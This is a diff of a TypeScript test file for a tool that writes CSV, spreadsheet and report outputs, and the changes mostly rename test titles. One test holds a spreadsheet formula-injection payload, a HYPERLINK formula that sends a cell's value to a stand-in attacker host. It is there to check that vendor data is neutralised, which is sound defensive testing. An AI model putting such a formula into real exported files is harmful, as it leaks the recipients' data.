@@ -154,7 +154,7 @@ class Desk {
 }
 
 describe('the output', () => {
-  test('is as open as the input, but for what the umask closes, and so are the files beside it', async () => {
+  test('the output is as open as the input, but for what the umask closes, and so are the files beside it', async () => {
     const desk = await Desk.open();
     const list = await desk.list('Domain\na\n');
     chmodSync(list.input.path, 0o666);
@@ -171,7 +171,7 @@ describe('the output', () => {
   test.each([
     ['a field that only the last answer has', { size: 7, late: 'x' }],
     ['a part of a field that was blank before', { size: 7, place: { city: 'Sydney' } }],
-  ])('has a column for %s, and counts every row once', async (_what, last) => {
+  ])('the output has a column for %s, and counts every row once', async (_what, last) => {
     const desk = await Desk.open();
     const rows = 1_100;
     const list = await desk.list(`Domain\n${'a\n'.repeat(rows)}`);
@@ -188,7 +188,7 @@ describe('the output', () => {
     expect(readdirSync(desk.folder).sort()).toEqual(['list.csv', 'out.csv', 'out.report.html']);
   });
 
-  test('is not written with fewer rows than the input has, nor when there is no input any more', async () => {
+  test('the output is not written with fewer rows than the input has, nor when there is no input any more', async () => {
     const desk = await Desk.open();
     const { input, batch } = await desk.list('Domain\na\n');
     const longer = { ...input, survey: { ...input.survey, rows: 2 } };
@@ -200,7 +200,7 @@ describe('the output', () => {
 });
 
 describe('the file of rows that need attention', () => {
-  test('holds those rows as they came, with number and reason, and is an input again', async () => {
+  test('the file of rows that need attention holds those rows as they came, with number and reason, and is an input again', async () => {
     const desk = await Desk.open();
     const list = await desk.list('Domain,Note\r\n"a",1\r\nb,"x, y"\r\n\r\nc,3\r\n');
     await desk.settle(list.batch, 2, { kind: 'no_match', reason: 'nothing' });
@@ -218,7 +218,7 @@ describe('the file of rows that need attention', () => {
   });
 
   test.each(['fill', 'replace'] as const)(
-    'holds a column of the user’s that a job is to %s',
+    'the file of rows that need attention holds a column of the user’s that a job is to %s',
     async (onExisting) => {
       const desk = await Desk.open();
       const list = await desk.list('Domain,size\na,12\n');
@@ -228,7 +228,7 @@ describe('the file of rows that need attention', () => {
     },
   );
 
-  test('holds a column _row of the user’s under another name, beside the number that is ours', async () => {
+  test('the file of rows that need attention holds a column _row of the user’s under another name, beside the number that is ours', async () => {
     const desk = await Desk.open();
     const list = await desk.list('_row,Domain,_row_2\n7,a,x\n');
     await desk.settle(list.batch, 2, { kind: 'refused', reason: 'no' });
@@ -244,7 +244,7 @@ describe('the file of rows that need attention', () => {
 describe('the file of results', () => {
   const people = { operation: { resultsFile: 'people' } };
 
-  test('has a line for each member of the lists, in order, with its row, under the fields that any of them has', async () => {
+  test('the file of results has a line for each member of the lists, in order, with its row, under the fields that any of them has', async () => {
     const desk = await Desk.open();
     const list = await desk.list('Domain\na\nb\nc\n');
     const [first, second] = [
@@ -290,7 +290,7 @@ describe('the file of results', () => {
     ]);
   });
 
-  test('does not repeat what an earlier output added to its input', async () => {
+  test('the file of results does not repeat what an earlier output added to its input', async () => {
     const desk = await Desk.open();
     const list = await desk.list(`Domain,${OURS}\na,matched,,,1,bought,\n`, 'earlier.csv');
     const found = await desk.answer(list.batch, 2, { results: [{ name: 'Jo' }] });
@@ -299,7 +299,7 @@ describe('the file of results', () => {
     expect(desk.read('out.people.csv')).toBe('_row,name,Domain\n2,Jo,a\n');
   });
 
-  test('shows what was found and paid for also while the rest of a row is in doubt', async () => {
+  test('the file of results shows what was found and paid for also while the rest of a row is in doubt', async () => {
     const desk = await Desk.open();
     const list = await desk.list('Domain\na\n');
     const found = await desk.answer(list.batch, 2, { results: [{ name: 'Jo' }] });
@@ -312,7 +312,7 @@ describe('the file of results', () => {
     expect(desk.read('out.people.csv')).toBe(`\uFEFF${plain}`);
   });
 
-  test('is whole when it holds more than is read of the ledger at a time, and the same to the byte again', async () => {
+  test('the file of results is whole when it holds more than is read of the ledger at a time, and the same to the byte again', async () => {
     const desk = await Desk.open();
     const rows = Array.from({ length: 61 }, (_, at) => ({
       results: [{ name: `p${at}` }, { name: `q${at}` }],
@@ -332,7 +332,7 @@ describe('the file of results', () => {
     expect(readFileSync(desk.path('out.people.csv'))).toEqual(once);
   });
 
-  test('goes when nothing was found, and is never touched by an operation that has none', async () => {
+  test('the file of results goes when nothing was found, and is never touched by an operation that has none', async () => {
     const desk = await Desk.open();
     const list = await desk.list('Domain\na\n');
     await desk.settle(list.batch, 2, { kind: 'no_match', reason: 'nobody' });
@@ -345,7 +345,7 @@ describe('the file of results', () => {
     expect(existsSync(desk.path('out.people.csv'))).toBe(false);
   });
 
-  test('is never the input itself, which is known before anything is paid for', async () => {
+  test('the file of results is never the input itself, which is known before anything is paid for', async () => {
     const desk = await Desk.open();
     const list = await desk.list('Domain\na\n', 'out.people.csv');
     await expect(desk.write(list, 'out.csv', people)).rejects.toMatchObject({ code: 'output' });
@@ -354,7 +354,7 @@ describe('the file of results', () => {
 });
 
 describe('without a job’s columns', () => {
-  test('answers are written whole, identifiers under a name that is never taken for one, and lists of results once', async () => {
+  test('without columns, answers are written whole, identifiers under a name that is never taken for one, and lists of results once', async () => {
     const desk = await Desk.open();
     const list = await desk.list('Company\na\nb\n');
     const place = { city: 'Perth' };
@@ -386,30 +386,33 @@ describe('a file beside the output', () => {
     return { desk, list };
   }
 
-  test.for(besides)('that somebody changed, or put there, is kept: %s', async (name) => {
-    const { desk, list } = await deskWithAll();
-    if (name !== 'out.report.html') await desk.write(list, 'out.csv', people);
-    writeFileSync(desk.path(name), 'mended by hand');
-    const ours = name.replace(/(\.\w+)$/, ' (2)$1');
-    const first = await desk.write(list, 'out.csv', people);
-    expect(Object.values(first)).toContain(desk.path(ours));
-    expect(desk.notes).toEqual([
-      `${desk.path(name)} is not ours, or has changed since we wrote it, so it is kept.`,
-    ]);
-    const content = desk.read(ours);
-    const names = readdirSync(desk.folder);
-    await desk.write(list, 'out.csv', people);
-    expect(desk.read(ours)).toBe(content);
-    expect(readdirSync(desk.folder)).toEqual(names);
+  test.for(besides)(
+    'a file beside the output that somebody changed, or put there, is kept: %s',
+    async (name) => {
+      const { desk, list } = await deskWithAll();
+      if (name !== 'out.report.html') await desk.write(list, 'out.csv', people);
+      writeFileSync(desk.path(name), 'mended by hand');
+      const ours = name.replace(/(\.\w+)$/, ' (2)$1');
+      const first = await desk.write(list, 'out.csv', people);
+      expect(Object.values(first)).toContain(desk.path(ours));
+      expect(desk.notes).toEqual([
+        `${desk.path(name)} is not ours, or has changed since we wrote it, so it is kept.`,
+      ]);
+      const content = desk.read(ours);
+      const names = readdirSync(desk.folder);
+      await desk.write(list, 'out.csv', people);
+      expect(desk.read(ours)).toBe(content);
+      expect(readdirSync(desk.folder)).toEqual(names);
 
-    await desk.settle(list.batch, 3, { kind: 'skipped', reason: 'left out' });
-    await desk.write(list, 'out.csv', people);
-    expect(desk.read(name)).toBe('mended by hand');
-    // What is stale of ours goes all the same.
-    expect(existsSync(desk.path(ours))).toBe(name !== 'out.needs-attention.csv');
-  });
+      await desk.settle(list.batch, 3, { kind: 'skipped', reason: 'left out' });
+      await desk.write(list, 'out.csv', people);
+      expect(desk.read(name)).toBe('mended by hand');
+      // What is stale of ours goes all the same.
+      expect(existsSync(desk.path(ours))).toBe(name !== 'out.needs-attention.csv');
+    },
+  );
 
-  test('is replaced when it is as we wrote it, also where outputs of other formats were written in turn', async () => {
+  test('a file beside the output is replaced when it is as we wrote it, also where outputs of other formats were written in turn', async () => {
     const { desk, list } = await deskWithAll();
     for (const name of ['out.csv', 'out.xlsx', 'out.csv', 'other.csv', 'out.xlsx'])
       await desk.write(list, name, people);
@@ -422,7 +425,7 @@ describe('what a vendor says never becomes a formula', () => {
   const FORMULA = '=HYPERLINK("http://evil.example?"&A2)';
   const QUOTED = '"\'=HYPERLINK(""http://evil.example?""&A2)"';
 
-  test('in the added columns, their names, the reasons and the file of those that need attention', async () => {
+  test('no formula stands in the added columns, their names, the reasons and the file of those that need attention', async () => {
     const desk = await Desk.open();
     const list = await desk.list('Domain,Sum\na,=1+1\nb,+2\n');
     const body = { name: FORMULA, phone: '+61 2 9999 0000', change: -5.5, '=field': ' ＝1+1' };
@@ -439,7 +442,7 @@ describe('what a vendor says never becomes a formula', () => {
     expect(desk.read('out.needs-attention.csv')).toBe("Domain,Sum,_row,_reason\nb,+2,3,'@SUM(1)\n");
   });
 
-  test('and an output that is an input again gets one apostrophe, not two, however it was written', async () => {
+  test('an output that is an input again gets one apostrophe, not two, however it was written', async () => {
     for (const formulas of ['safe', 'raw'] as const) {
       const desk = await Desk.open();
       const list = await desk.list('Domain\na\n');
